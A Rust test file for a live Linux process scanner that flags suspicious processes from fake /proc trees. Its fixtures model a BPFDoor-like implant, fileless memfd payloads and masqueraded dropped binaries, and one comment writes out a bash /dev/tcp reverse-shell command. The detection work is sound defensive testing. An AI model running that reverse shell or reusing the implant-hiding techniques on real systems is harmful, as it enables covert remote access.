//! The live check on a fake procfs tree (files and symlinks as the kernel presents
//! them), and the /proc parsers on verbatim kernel text.

use std::fs;
use std::os::unix::fs::symlink;

use super::procfs::*;
use super::*;

// ---------------------------------------------------------------------------------
// SigIgn decoding (docs/field-guide.md §6.1)
// ---------------------------------------------------------------------------------

fn names(hex: &str) -> Vec<&'static str> {
    SigSet::parse(hex)
        .unwrap()
        .signals()
        .filter_map(crate::detectors::signal_mask::signal_name)
        .collect()
}

#[test]
fn sigign_bit_n_minus_1_is_signal_n() {
    // nohup: coreutils signal(SIGHUP, SIG_IGN).
    assert_eq!(names("0000000000000001"), ["HUP"]);
    // `cmd &` from a non-interactive shell, and `nohup cmd &` from a script.
    assert_eq!(names("0000000000000006"), ["INT", "QUIT"]);
    assert_eq!(names("0000000000000007"), ["HUP", "INT", "QUIT"]);
    // Interactive bash (proc_pid_status(5)).
    assert_eq!(
        names("0000000000384004"),
        ["QUIT", "TERM", "TSTP", "TTIN", "TTOU"]
    );
    // BPFDoor's seven, and the leaked sample's SIGCHLD.
    assert_eq!(
        names("0000000000311007"),
        ["HUP", "INT", "QUIT", "PIPE", "CHLD", "TTIN", "TTOU"]
    );
    assert_eq!(names("0000000000010000"), ["CHLD"]);
    // The seed's test 3 expects HUP, INT, TERM and PIPE masked. That is 0x5003: its
    // own example value 0x3c06 would decode to other signals.
    assert_eq!(SigSet::of([1, 2, 13, 15]), SigSet(0x5003));
    assert_eq!(
        names("0000000000003c06"),
        ["INT", "QUIT", "SEGV", "USR2", "PIPE", "ALRM"]
    );
    // auditd on this Debian 12 machine ignores nearly everything but the HUP and
    // TERM it handles (and KILL, STOP, which cannot be ignored).
    let auditd = SigSet::parse("fffffffefff8b4fe").unwrap();
    assert!(auditd.contains(2) && auditd.contains(3) && auditd.contains(13));
    assert!(
        !auditd.contains(1) && !auditd.contains(15) && !auditd.contains(9) && !auditd.contains(19)
    );
    // 128-signal architectures print 32 digits: the classic signals are the low 64 bits.
    assert_eq!(
        SigSet::parse("00000000000000000000000000004001"),
        Some(SigSet(0x4001))
    );
    assert_eq!(SigSet::parse(""), None);
    assert_eq!(SigSet::parse("00zz"), None);
    assert!(!SigSet(u64::MAX).contains(0) && !SigSet(u64::MAX).contains(65));
}

// ---------------------------------------------------------------------------------
// Parsers on verbatim kernel text
// ---------------------------------------------------------------------------------

/// `/proc/self/status` of `cat` on Linux 6.18 (trimmed after the signal lines).
const STATUS_CAT: &str = "Name:\tcat\nUmask:\t0022\nState:\tR (running)\nTgid:\t6259\nNgid:\t0\nPid:\t6259\nPPid:\t6257\nTracerPid:\t0\nUid:\t1000\t1001\t1000\t1000\nGid:\t0\t0\t0\t0\nFDSize:\t256\nGroups:\t \nNStgid:\t6259\nNSpid:\t6259\nKthread:\t0\nVmPeak:\t    3060 kB\nThreads:\t1\nSigQ:\t0/96365\nSigPnd:\t0000000000000000\nShdPnd:\t0000000000000000\nSigBlk:\t0000000000010000\nSigIgn:\t0000000000384004\nSigCgt:\t000000004b813efb\nCapInh:\t0000000000000000\n";

#[test]
fn parses_status_and_stat() {
    let st = parse_status(STATUS_CAT.as_bytes()).unwrap();
    assert_eq!(st.name, "cat");
    assert_eq!(st.ppid, 6257);
    assert_eq!((st.uid, st.euid), (Some(1000), Some(1001)));
    assert_eq!(st.sig_ign, SigSet(0x384004));
    assert_eq!(st.sig_blk, SigSet(0x10000));
    assert_eq!(st.sig_cgt, SigSet(0x4b813efb));
    assert_eq!(
        parse_status(b"Name:\tx\nPPid:\t1\n"),
        None,
        "no SigIgn line: not a status file"
    );
    assert_eq!(parse_status(b"\xff\xfe garbage"), None);

    // Verbatim /proc/self/stat; then a comm a process chose to confuse parsers.
    let stat = parse_stat(b"660 (cat) R 657 657 9341 0 -1 4194304 102 0 0 0 0 0 0 0 20 0 1 0 221164 3133440 412 18446744073709551615 93984853483520 0 0 0").unwrap();
    assert_eq!(
        (
            stat.comm.as_str(),
            stat.state,
            stat.ppid,
            stat.tty_nr,
            stat.starttime
        ),
        ("cat", 'R', 657, 0, 221164)
    );
    assert_eq!(stat.flags & PF_KTHREAD, 0);
    // A full line of an interactive bash: sigignore (field 33) is decimal, 31 bits.
    let bash = parse_stat(b"1061 (bash) S 1060 1061 1061 34816 1061 4194560 2370 2614 0 0 2 2 0 1 20 0 1 0 1953 8765440 1209 18446744073709551615 1 1 0 0 0 0 65536 3686404 1266761467 1 0 0 17 1 0 0 0 0 0 0 0 0 0 0 0 0 0").unwrap();
    assert_eq!(bash.sig_ign, Some(SigSet(0x384004)));
    assert_eq!(stat.sig_ign, None, "a line cut before the signal fields");
    let stat =
        parse_stat(b"7 (a) S 1 2 (x) S 42 7 7 34816 7 4194560 0 0 0 0 0 0 0 0 20 0 1 0 999 0 0")
            .unwrap();
    assert_eq!(
        (stat.comm.as_str(), stat.ppid, stat.tty_nr, stat.starttime),
        ("a) S 1 2 (x", 42, 34816, 999)
    );
    assert_eq!(parse_stat(b"1 (x"), None);
    assert_eq!(parse_stat(b"1 (x) S 1 2"), None);
    let kthread =
        parse_stat(b"2 (kthreadd) S 0 0 0 0 -1 2129984 0 0 0 0 0 0 0 0 20 0 1 0 2 0 0").unwrap();
    assert_ne!(kthread.flags & PF_KTHREAD, 0);

    assert_eq!(parse_cmdline(b"sleep\x0030\x00"), ["sleep", "30"]);
    assert_eq!(
        parse_cmdline(b"/sbin/udevd -d"),
        ["/sbin/udevd -d"],
        "rewritten argv kept whole"
    );
    assert!(parse_cmdline(b"").is_empty());
}

#[test]
fn parses_net_tables() {
    // Header as kernel 6.x prints it, and the dissect.target row (SOCK_RAW, ETH_P_ALL).
    let packet = "sk               RefCnt Type Proto  Iface R Rmem   User   Inode\n00000000819f8865 3      3    0003   2     1 0      0      1337\nffff8880049a2000 3      3    0800   0     1 0      0      4242\nbroken row\n";
    let rows = parse_net_packet(packet);
    assert_eq!(rows.len(), 2);
    assert_eq!(
        (rows[0].kind, rows[0].proto, rows[0].inode),
        (3, 0x0003, 1337)
    );
    assert_eq!(
        (rows[1].proto, rows[1].uid, rows[1].inode),
        (0x0800, 0, 4242)
    );
    // Verbatim /proc/net/tcp of this machine: a listener on port 2024.
    let tcp = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:07E8 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 639 1 000000003ea5aa6b 100 0 0 10 0\n   1: 0100007F:9C40 0100007F:07E8 01 00000000:00000000 00:00000000 00000000     0        0 640 1 0000000000000000 20 4 30 10 -1\n";
    let mut inet = HashMap::new();
    parse_net_inet(tcp, &mut inet);
    assert_eq!(inet.get(&639), Some(&TCP_LISTEN));
    assert_eq!(inet.get(&640), Some(&1));
    assert_eq!(socket_inode("socket:[639]"), Some(639));
    assert_eq!(socket_inode("pipe:[639]"), None);
    assert_eq!(
        parse_btime("cpu 1 2\nbtime 1700000000\nprocesses 5\n"),
        Some(1_700_000_000)
    );
    let users = parse_passwd(
        "root:x:0:0:root:/root:/bin/bash\n# comment\nalice:x:1000:1000::/home/alice:/bin/sh\nbad\n",
    );
    assert_eq!(users.get(&1000).map(String::as_str), Some("alice"));
}

// ---------------------------------------------------------------------------------
// A fake procfs tree
// ---------------------------------------------------------------------------------

struct Fake {
    dir: tempfile::TempDir,
}

/// One process of the fake tree.
struct Proc<'a> {
    pid: u32,
    ppid: u32,
    comm: &'a str,
    sig_ign: u64,
    sig_blk: u64,
    uid: u32,
    tty_nr: i64,
    flags: u64,
    starttime: u64,
    state: char,
    exe: Option<&'a str>,
    cmdline: &'a [u8],
    cgroup: &'a str,
    fds: &'a [(u32, &'a str)],
}

impl Default for Proc<'_> {
    fn default() -> Self {
        Proc {
            pid: 0,
            ppid: 1,
            comm: "x",
            sig_ign: 0,
            sig_blk: 0,
            uid: 0,
            tty_nr: 0,
            flags: 4194560,
            starttime: 12_345,
            state: 'S',
            exe: None,
            cmdline: b"",
            cgroup: "0::/user.slice/user-1000.slice/session-3.scope\n",
            fds: &[],
        }
    }
}

impl Fake {
    fn new() -> Fake {
        let f = Fake {
            dir: tempfile::tempdir().unwrap(),
        };
        f.write("stat", "cpu  1 2 3\nbtime 1700000000\nprocesses 99\n");
        f.write("sys/kernel/hostname", "fakehost\n");
        f.write(
            "net/packet",
            "sk               RefCnt Type Proto  Iface R Rmem   User   Inode\nffff8880049a2000 3      3    0800   0     1 0      0      4242\n",
        );
        f.write(
            "net/tcp",
            "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 5151 1 0 100 0 0 10 0\n   1: 0A00000F:B0B0 0A000001:115C 01 00000000:00000000 00:00000000 00000000     0        0 6161 1 0 20 4 30 10 -1\n",
        );
        f.write(
            "passwd",
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        );
        f
    }

    fn write(&self, rel: &str, text: &str) {
        self.write_bytes(rel, text.as_bytes());
    }

    fn write_bytes(&self, rel: &str, bytes: &[u8]) {
        let path = self.dir.path().join(rel);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }

    fn add(&self, p: Proc<'_>) {
        let pid = p.pid;
        self.write(
            &format!("{pid}/status"),
            &format!(
                "Name:\t{}\nState:\t{} (sleeping)\nTgid:\t{pid}\nPid:\t{pid}\nPPid:\t{}\nUid:\t{u}\t{u}\t{u}\t{u}\nSigQ:\t0/96365\nSigPnd:\t0000000000000000\nShdPnd:\t0000000000000000\nSigBlk:\t{:016x}\nSigIgn:\t{:016x}\nSigCgt:\t0000000000000000\n",
                p.comm,
                p.state,
                p.ppid,
                p.sig_blk,
                p.sig_ign,
                u = p.uid
            ),
        );
        self.write(
            &format!("{pid}/stat"),
            &format!(
                "{pid} ({}) {} {} {pid} {pid} {} -1 {} 0 0 0 0 0 0 0 0 20 0 1 0 {} 3133440 412 18446744073709551615 0 0 0 0 0 0 {} {} 0 0 0 0 17 0 0 0 0 0 0 0 0 0 0 0 0 0 0\n",
                p.comm,
                p.state,
                p.ppid,
                p.tty_nr,
                p.flags,
                p.starttime,
                p.sig_blk & 0x7fff_ffff,
                p.sig_ign & 0x7fff_ffff
            ),
        );
        self.write_bytes(&format!("{pid}/cmdline"), p.cmdline);
        self.write(&format!("{pid}/cgroup"), p.cgroup);
        if let Some(exe) = p.exe {
            symlink(exe, self.dir.path().join(format!("{pid}/exe"))).unwrap();
        }
        fs::create_dir_all(self.dir.path().join(format!("{pid}/fd"))).unwrap();
        for (fd, target) in p.fds {
            symlink(target, self.dir.path().join(format!("{pid}/fd/{fd}"))).unwrap();
        }
    }

    fn scanner(&self, pids: Vec<u32>) -> LiveScanner {
        LiveScanner::new(
            &Rules::embedded(),
            LiveOptions {
                proc_root: self.dir.path().to_path_buf(),
                pids,
                passwd: Some(self.dir.path().join("passwd")),
                exclude_pids: Vec::new(),
            },
        )
        .unwrap()
    }

    fn scan(&self) -> LiveReport {
        self.scanner(Vec::new()).scan().unwrap()
    }
}

fn hit(report: &LiveReport, pid: u32) -> &Finding {
    &report
        .hits
        .iter()
        .find(|h| h.key.pid == pid)
        .unwrap_or_else(|| panic!("pid {pid} not reported: {:#?}", report.hits))
        .finding
}

fn has(f: &Finding, names: &[&str]) {
    for n in names {
        assert!(
            f.indicators.iter().any(|i| i == n),
            "{n} missing from {:?} (pid {:?})",
            f.indicators,
            f.pid
        );
    }
}

fn lacks(f: &Finding, names: &[&str]) {
    for n in names {
        assert!(
            !f.indicators.iter().any(|i| i == n),
            "{n} unexpected in {:?} (pid {:?})",
            f.indicators,
            f.pid
        );
    }
}

#[test]
fn bpfdoor_like_implant_is_critical() {
    let fake = Fake::new();
    // gwillgues/BPFDoor: copied to /dev/shm/kdmtmpflush, run and removed; argv and
    // comm rewritten to "/sbin/udevd -d"; a packet socket (SOCK_RAW, ETH_P_IP); the
    // seven-signal variant's SigIgn.
    fake.add(Proc {
        pid: 4321,
        comm: "udevd",
        sig_ign: 0x311007,
        exe: Some("/dev/shm/kdmtmpflush (deleted)"),
        cmdline: b"/sbin/udevd -d",
        fds: &[
            (0, "/dev/null"),
            (1, "/dev/null"),
            (3, "socket:[4242]"),
            (4, "socket:[9999]"),
        ],
        ..Proc::default()
    });
    let report = fake.scan();
    let f = hit(&report, 4321);
    has(
        f,
        &[
            "ignores_sighup",
            "ignores_sigint",
            "ignores_sigquit",
            "ignores_sigpipe",
            "ignores_sigchld",
            "ignores_sigttin",
            "ignores_sigttou",
            "exe_deleted",
            "exe_temp_dir",
            "name_masquerade",
            "packet_socket",
            "no_tty",
            "reparented",
        ],
    );
    lacks(
        f,
        &[
            "ignores_sigterm",
            "allow_listed",
            "listening_socket",
            "stdio_socket",
        ],
    );
    assert_eq!(f.severity, Severity::Critical, "{f:?}");
    assert_eq!(f.detection_type, DetectionType::SignalIgnoreLive);
    assert_eq!(f.exec_cmd, "/dev/shm/kdmtmpflush (deleted)");
    assert_eq!(f.command_line, "'/sbin/udevd -d'");
    assert_eq!(
        (f.pid, f.ppid, f.user.as_deref()),
        (Some(4321), Some(1), Some("root"))
    );
    assert_eq!(f.host, "fakehost");
    assert_eq!(f.platform, Platform::Unix);
    assert_eq!(f.source.format, "procfs");
    assert_eq!(f.source.position, Position::None);
    assert_eq!(
        &*f.source.path,
        format!("{}/4321/status", fake.dir.path().display())
    );
    // Start time: btime + starttime / CLK_TCK.
    let tck = clock_ticks();
    let want = 1_700_000_000 * 1000 + (12_345 * 1000 / tck) as i64;
    assert_eq!(f.time.unwrap().timestamp_millis(), want);
    assert_eq!(report.hits[0].ignored, [1, 2, 3, 13, 17, 21, 22]);
}

#[test]
fn ordinary_processes_stay_low_or_unreported() {
    let fake = Fake::new();
    // An interactive bash on a terminal: QUIT, TERM, TSTP, TTIN, TTOU ignored.
    fake.add(Proc {
        pid: 100,
        ppid: 99,
        comm: "bash",
        sig_ign: 0x384004,
        sig_blk: 0x10000,
        tty_nr: 34816,
        uid: 1000,
        exe: Some("/usr/bin/bash"),
        cmdline: b"-bash\0",
        ..Proc::default()
    });
    // auditd (Debian 12's mask), started by systemd.
    fake.add(Proc {
        pid: 200,
        comm: "auditd",
        sig_ign: 0xfffffffefff8b4fe,
        exe: Some("/usr/sbin/auditd"),
        cmdline: b"/sbin/auditd\0",
        cgroup: "0::/system.slice/auditd.service\n",
        ..Proc::default()
    });
    // An administrator's `nohup ./worker &` after logout: HUP, INT, QUIT; nohup.out.
    fake.add(Proc {
        pid: 300,
        comm: "worker",
        sig_ign: 0x7,
        uid: 1000,
        exe: Some("/opt/app/bin/worker"),
        cmdline: b"./worker\0--queue\0jobs\0",
        fds: &[
            (0, "/dev/null"),
            (1, "/home/alice/nohup.out"),
            (2, "/home/alice/nohup.out"),
        ],
        ..Proc::default()
    });
    // A daemon ignoring only SIGPIPE, one ignoring CHLD, and a kernel thread.
    fake.add(Proc {
        pid: 400,
        comm: "nginx",
        sig_ign: 0x1000,
        exe: Some("/usr/sbin/nginx"),
        cmdline: b"nginx: master process\0",
        ..Proc::default()
    });
    fake.add(Proc {
        pid: 401,
        comm: "dbus-daemon",
        sig_ign: 0x10000,
        exe: Some("/usr/bin/dbus-daemon"),
        ..Proc::default()
    });
    fake.add(Proc {
        pid: 2,
        ppid: 0,
        comm: "kthreadd",
        sig_ign: u64::MAX,
        flags: 2129984,
        ..Proc::default()
    });
    fake.add(Proc {
        pid: 50,
        ppid: 2,
        comm: "kworker/0:1-events",
        sig_ign: u64::MAX,
        flags: 69238880,
        ..Proc::default()
    });
    // A service systemd started (HUP ignored): pid 1 is its real parent.
    fake.add(Proc {
        pid: 500,
        comm: "redis-server",
        sig_ign: 0x1001,
        exe: Some("/usr/bin/redis-server"),
        cmdline: b"/usr/bin/redis-server 127.0.0.1:6379\0",
        cgroup: "0::/system.slice/redis-server.service\n",
        fds: &[(6, "socket:[5151]")],
        ..Proc::default()
    });
    // A zombie.
    fake.add(Proc {
        pid: 600,
        comm: "defunct",
        sig_ign: 0x4000,
        state: 'Z',
        ..Proc::default()
    });
    let report = fake.scan();

    let bash = hit(&report, 100);
    has(
        bash,
        &["ignores_sigquit", "ignores_sigterm", "allow_listed"],
    );
    lacks(bash, &["no_tty", "reparented", "blocks_term_signals"]);
    assert_eq!(
        bash.severity,
        Severity::Low,
        "capped by the shell allow-list"
    );
    assert_eq!(bash.user.as_deref(), Some("alice"));

    let auditd = hit(&report, 200);
    has(
        auditd,
        &["ignores_sigint", "ignores_sigquit", "allow_listed"],
    );
    lacks(auditd, &["reparented", "ignores_sighup", "ignores_sigterm"]);
    assert_eq!(auditd.severity, Severity::Informational);

    let worker = hit(&report, 300);
    has(
        worker,
        &[
            "ignores_sighup",
            "ignores_sigint",
            "ignores_sigquit",
            "under_nohup",
            "reparented",
            "no_tty",
        ],
    );
    assert_eq!(worker.severity, Severity::Low, "{worker:?}");

    let redis = hit(&report, 500);
    has(redis, &["listening_socket", "allow_listed"]);
    lacks(redis, &["reparented"]);
    assert!(redis.severity <= Severity::Low);

    for pid in [400, 401, 2, 50, 600] {
        assert!(
            !report.hits.iter().any(|h| h.key.pid == pid),
            "pid {pid} must not be reported"
        );
    }
    assert_eq!(report.stats.kernel_threads, 2);
    assert_eq!(report.stats.processes, 9);
    // The capped daemons are marked to be hidden (`live` without --all); the nohup'd
    // worker is not allow-listed.
    let allow_listed = |pid| {
        report
            .hits
            .iter()
            .find(|h| h.key.pid == pid)
            .unwrap()
            .allow_listed
    };
    assert!(allow_listed(100) && allow_listed(200) && allow_listed(500));
    assert!(!allow_listed(300));
}

#[test]
fn context_overrides_the_allow_list() {
    let fake = Fake::new();
    // `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`: an interactive shell on a socket.
    fake.add(Proc {
        pid: 700,
        comm: "bash",
        sig_ign: 0x384004,
        exe: Some("/usr/bin/bash"),
        cmdline: b"bash\0-i\0",
        fds: &[
            (0, "socket:[6161]"),
            (1, "socket:[6161]"),
            (2, "socket:[6161]"),
        ],
        ..Proc::default()
    });
    // A shell script in a hidden temp directory with `trap '' TERM`.
    fake.add(Proc {
        pid: 701,
        comm: "run.sh",
        sig_ign: 0x4000,
        exe: Some("/usr/bin/bash"),
        cmdline: b"/bin/bash\0/tmp/.cache-x/run.sh\0",
        ..Proc::default()
    });
    // A fileless payload, a kernel-thread name on a user process, a listener.
    fake.add(Proc {
        pid: 702,
        comm: "3",
        sig_ign: 0x4001,
        exe: Some("/memfd:  (deleted)"),
        cmdline: b"[kworker/0:3]\0",
        ..Proc::default()
    });
    fake.add(Proc {
        pid: 703,
        comm: "python3",
        sig_ign: 0x1001,
        sig_blk: 0x4000,
        uid: 1000,
        exe: Some("/usr/bin/python3.11"),
        cmdline: b"python3\0-m\0http.server\08080\0",
        fds: &[(3, "socket:[5151]")],
        ..Proc::default()
    });
    // A daemon whose binary a package upgrade replaced (deleted; same path).
    fake.add(Proc {
        pid: 704,
        comm: "agent",
        sig_ign: 0x4000,
        exe: Some("/usr/sbin/agent (deleted)"),
        cmdline: b"/usr/sbin/agent\0",
        cgroup: "0::/system.slice/agent.service\n",
        ..Proc::default()
    });
    // A tool chain's hidden directory is not hiding: ~/.cargo/bin.
    fake.add(Proc {
        pid: 705,
        comm: "cargo",
        sig_ign: 0x1006,
        exe: Some("/root/.rustup/toolchains/stable/bin/cargo"),
        cmdline: b"cargo\0install\0x\0",
        ..Proc::default()
    });
    let report = fake.scan();

    let rev = hit(&report, 700);
    has(rev, &["stdio_socket", "allow_listed"]);
    assert!(rev.severity >= Severity::Medium, "{rev:?}");
    assert!(
        !report
            .hits
            .iter()
            .any(|h| h.key.pid == 700 && h.allow_listed),
        "an overridden allow-list entry does not hide the process"
    );

    let script = hit(&report, 701);
    has(
        script,
        &[
            "ignores_sigterm",
            "exe_temp_dir",
            "hidden_path",
            "allow_listed",
        ],
    );
    assert!(script.severity >= Severity::High, "{script:?}");

    let memfd = hit(&report, 702);
    has(
        memfd,
        &[
            "exe_memfd",
            "name_masquerade",
            "ignores_sighup",
            "ignores_sigterm",
        ],
    );
    lacks(memfd, &["exe_deleted"]);
    assert!(memfd.severity >= Severity::High);

    let server = hit(&report, 703);
    has(
        server,
        &["listening_socket", "ignores_sighup", "blocks_term_signals"],
    );
    lacks(server, &["name_masquerade", "hidden_path"]);
    assert_eq!(server.severity, Severity::Low);

    let upgraded = hit(&report, 704);
    has(upgraded, &["exe_deleted", "ignores_sigterm"]);
    assert!(upgraded.severity >= Severity::Medium);

    let cargo = hit(&report, 705);
    lacks(cargo, &["hidden_path"]);
    assert_eq!(cargo.severity, Severity::Low);

    // Highest severity first.
    let sev: Vec<Severity> = report.hits.iter().map(|h| h.finding.severity).collect();
    assert!(sev.windows(2).all(|w| w[0] >= w[1]), "{sev:?}");
}

#[test]
fn build_tools_running_their_temp_builds_are_not_payloads() {
    let fake = Fake::new();
    // `nohup cargo install x &`: cargo runs build scripts from /tmp/cargo-install*.
    fake.add(Proc {
        pid: 900,
        comm: "cargo",
        sig_ign: 0x7,
        exe: Some("/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/cargo"),
        cmdline: b"cargo\0install\0x\0",
        ..Proc::default()
    });
    fake.add(Proc {
        pid: 901,
        ppid: 900,
        comm: "build-script-bu",
        sig_ign: 0x1001,
        exe: Some("/tmp/cargo-installKDaMpu/release/build/zstd-sys-3ec260c19761fcc8/build-script-build"),
        cmdline: b"/tmp/cargo-installKDaMpu/release/build/zstd-sys-3ec260c19761fcc8/build-script-build\0",
        ..Proc::default()
    });
    // The same, launched by a "cargo" that is itself a dropped file: a payload.
    fake.add(Proc {
        pid: 902,
        comm: "cargo",
        exe: Some("/tmp/.x/cargo"),
        ..Proc::default()
    });
    fake.add(Proc {
        pid: 903,
        ppid: 902,
        comm: "payload",
        sig_ign: 0x1,
        exe: Some("/tmp/.x/payload"),
        cmdline: b"/tmp/.x/payload\0",
        ..Proc::default()
    });
    let report = fake.scan();
    let build = hit(&report, 901);
    has(build, &["ignores_sighup", "toolchain_build"]);
    lacks(build, &["exe_temp_dir", "hidden_path"]);
    assert_eq!(build.severity, Severity::Low);
    let payload = hit(&report, 903);
    has(payload, &["exe_temp_dir", "hidden_path"]);
    lacks(payload, &["toolchain_build"]);
    assert!(payload.severity >= Severity::High);
}

#[test]
fn background_jobs_signals_alone_stay_low() {
    let fake = Fake::new();
    // `bash /tmp/sync.sh &` from a script: INT and QUIT only, a script in /tmp.
    fake.add(Proc {
        pid: 950,
        comm: "sync.sh",
        sig_ign: 0x6,
        exe: Some("/usr/bin/bash"),
        cmdline: b"/bin/bash\0/tmp/sync.sh\0build\0",
        ..Proc::default()
    });
    // A dropped binary started with `&`, same signals, but deleted and renamed.
    fake.add(Proc {
        pid: 951,
        comm: "udevd",
        sig_ign: 0x6,
        exe: Some("/tmp/x (deleted)"),
        cmdline: b"/sbin/udevd\0-d\0",
        ..Proc::default()
    });
    // With HUP as well (`nohup /tmp/x &`) the location counts in full.
    fake.add(Proc {
        pid: 952,
        comm: "x",
        sig_ign: 0x7,
        exe: Some("/tmp/x"),
        cmdline: b"/tmp/x\0",
        ..Proc::default()
    });
    let report = fake.scan();
    let script = hit(&report, 950);
    has(
        script,
        &[
            "ignores_sigint",
            "ignores_sigquit",
            "exe_temp_dir",
            "background_job_signals",
        ],
    );
    assert_eq!(script.severity, Severity::Low);
    let dropped = hit(&report, 951);
    has(
        dropped,
        &["background_job_signals", "exe_deleted", "name_masquerade"],
    );
    assert!(dropped.severity >= Severity::High);
    let nohup = hit(&report, 952);
    lacks(nohup, &["background_job_signals"]);
    has(nohup, &["exe_temp_dir"]);
    assert!(nohup.severity >= Severity::Medium);
}

#[test]
fn unreadable_and_vanished_processes_are_counted_not_fatal() {
    let fake = Fake::new();
    fake.add(Proc {
        pid: 10,
        comm: "perl",
        sig_ign: 0x4000,
        exe: Some("/usr/bin/perl"),
        cmdline: b"perl\0-e\0$SIG{TERM}='IGNORE'; sleep 30\0",
        ..Proc::default()
    });
    fake.write("11/stat", "garbage without fields\n");
    fake.write_bytes("12/stat", b"\xff\xff\xff");
    // Exited between the stat and status reads: stat says TERM is ignored.
    let stat = "13 (x) S 1 13 13 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 5 1 1 1 0 0 0 0 0 0 0 16384 0 0 0 0 17 0 0 0 0 0 0 0 0 0 0 0 0 0 0";
    fake.write("13/stat", stat);
    // A status file without signal lines.
    fake.write("14/stat", &stat.replacen("13", "14", 1));
    fake.write("14/status", "Name:\tx\nPPid:\t1\n");
    let report = fake.scan();
    assert_eq!(report.hits.len(), 1);
    has(hit(&report, 10), &["ignores_sigterm"]);
    assert_eq!(report.stats.unreadable, 3);
    assert_eq!(report.stats.vanished, 1);

    // --pid: only those; one that does not exist is counted as gone.
    let report = fake.scanner(vec![10, 99_999]).scan().unwrap();
    assert_eq!(report.hits.len(), 1);
    assert_eq!(report.stats.vanished, 1);

    // No procfs at all is the one fatal error.
    let missing = LiveScanner::new(
        &Rules::embedded(),
        LiveOptions {
            proc_root: fake.dir.path().join("nope"),
            ..LiveOptions::default()
        },
    )
    .unwrap()
    .scan();
    assert!(matches!(missing, Err(LiveError::NoProcfs { .. })));
}

#[test]
fn excluded_processes_are_never_reported() {
    let fake = Fake::new();
    for pid in [20, 21] {
        fake.add(Proc {
            pid,
            comm: "x",
            sig_ign: 0x4000,
            exe: Some("/tmp/x"),
            cmdline: b"/tmp/x\0",
            starttime: 100,
            ..Proc::default()
        });
    }
    let mut scanner = LiveScanner::new(
        &Rules::embedded(),
        LiveOptions {
            proc_root: fake.dir.path().to_path_buf(),
            exclude_pids: vec![21],
            ..LiveOptions::default()
        },
    )
    .unwrap();
    let pids: Vec<u32> = scanner
        .scan()
        .unwrap()
        .hits
        .iter()
        .map(|h| h.key.pid)
        .collect();
    assert_eq!(pids, [20]);
    // The scanner's own pid is in the list `live` excludes.
    assert!(crate::live::own_processes().contains(&std::process::id()));
}

#[test]
fn watch_reports_each_process_once() {
    let fake = Fake::new();
    fake.add(Proc {
        pid: 20,
        comm: "x",
        sig_ign: 0x4000,
        exe: Some("/tmp/x"),
        cmdline: b"/tmp/x\0",
        starttime: 100,
        ..Proc::default()
    });
    let mut scanner = fake.scanner(Vec::new());
    let mut watch = Watch::default();
    assert_eq!(watch.fresh(scanner.scan().unwrap(), |_| true).len(), 1);
    assert_eq!(
        watch.fresh(scanner.scan().unwrap(), |_| true).len(),
        0,
        "seen already"
    );
    // The pid reused by a new process (another start time) is another process.
    fake.write(
        "20/stat",
        "20 (x) S 1 20 20 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 200 0 0",
    );
    assert_eq!(watch.fresh(scanner.scan().unwrap(), |_| true).len(), 1);
    // Below --min-severity: not reported, and not marked as seen.
    fake.add(Proc {
        pid: 21,
        sig_ign: 0x1,
        exe: Some("/opt/y"),
        ..Proc::default()
    });
    assert_eq!(
        watch
            .fresh(scanner.scan().unwrap(), |h| h.finding.severity
                >= Severity::Medium)
            .len(),
        0
    );
    assert_eq!(watch.fresh(scanner.scan().unwrap(), |_| true).len(), 1);
    // Exited processes are forgotten.
    fs::remove_dir_all(fake.dir.path().join("20")).unwrap();
    watch.forget_exited(fake.dir.path());
    assert_eq!(watch.seen.len(), 1);
}
